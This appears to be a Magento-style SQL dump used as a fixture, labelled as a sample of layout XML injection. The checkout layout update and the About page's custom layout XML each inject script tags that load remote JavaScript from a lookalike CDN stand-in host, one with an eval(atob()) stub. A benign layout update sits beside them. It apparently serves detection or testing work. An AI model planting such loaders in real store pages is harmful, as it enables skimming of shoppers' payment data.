-- Layout XML as an injection point: a widget layout update and a CMS page's custom layout
-- update carrying a script block, beside a stock layout update.
/*!40101 SET NAMES utf8mb4 */;
DROP TABLE IF EXISTS `core_config_data`;
CREATE TABLE `core_config_data` (
  `config_id` int unsigned NOT NULL AUTO_INCREMENT,
  `scope` varchar(8) NOT NULL DEFAULT 'default',
  `scope_id` int NOT NULL DEFAULT '0',
  `path` varchar(255) NOT NULL DEFAULT 'general',
  `value` text,
  `updated_at` timestamp NOT NULL DEFAULT CURRENT_TIMESTAMP ON UPDATE CURRENT_TIMESTAMP,
  PRIMARY KEY (`config_id`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb3;
INSERT INTO `core_config_data` VALUES (1,'default',0,'web/secure/base_url','https://shop.layout.example.test/','2024-01-01 00:00:00'),(2,'default',0,'web/unsecure/base_url','https://shop.layout.example.test/','2024-01-01 00:00:00');
DROP TABLE IF EXISTS `layout_update`;
CREATE TABLE `layout_update` (
  `layout_update_id` int unsigned NOT NULL AUTO_INCREMENT,
  `handle` varchar(255) DEFAULT NULL,
  `xml` text,
  `sort_order` smallint NOT NULL DEFAULT '0',
  `updated_at` timestamp NULL DEFAULT NULL,
  PRIMARY KEY (`layout_update_id`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb3;
INSERT INTO `layout_update` VALUES (1,'checkout_index_index','<body><referenceContainer name=\"before.body.end\"><block class=\"Magento\\\\Framework\\\\View\\\\Element\\\\Text\" name=\"x\"><action method=\"setText\"><argument name=\"text\" xsi:type=\"string\"><![CDATA[<script src=\"https://static-cdn.checkout-assets.example.top/s.js\"></script><script>eval(atob(\'ZG9jdW1lbnQ=\'))</script>]]></argument></action></block></referenceContainer></body>',0,'2024-07-10 02:00:00'),(2,'catalog_product_view','<referenceBlock name=\"product.info.review\" remove=\"true\"/>',0,'2023-05-01 00:00:00');
DROP TABLE IF EXISTS `cms_page`;
CREATE TABLE `cms_page` (
  `page_id` smallint NOT NULL AUTO_INCREMENT,
  `title` varchar(255) DEFAULT NULL,
  `identifier` varchar(100) DEFAULT NULL,
  `content` mediumtext,
  `update_time` timestamp NOT NULL DEFAULT CURRENT_TIMESTAMP,
  `custom_layout_update_xml` text,
  PRIMARY KEY (`page_id`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb3;
INSERT INTO `cms_page` VALUES (1,'Home','home','<p>Welcome</p>','2023-01-01 00:00:00',NULL),(2,'About','about-us','<p>About</p>','2024-07-10 02:05:00','<referenceContainer name=\"content\"><block class=\"Magento\\\\Framework\\\\View\\\\Element\\\\Text\"><action method=\"setText\"><argument name=\"text\" xsi:type=\"string\"><![CDATA[<script>var s=document.createElement(\'script\');s.src=\'https://static-cdn.checkout-assets.example.top/p.js\';document.head.appendChild(s)</script>]]></argument></action></block></referenceContainer>');
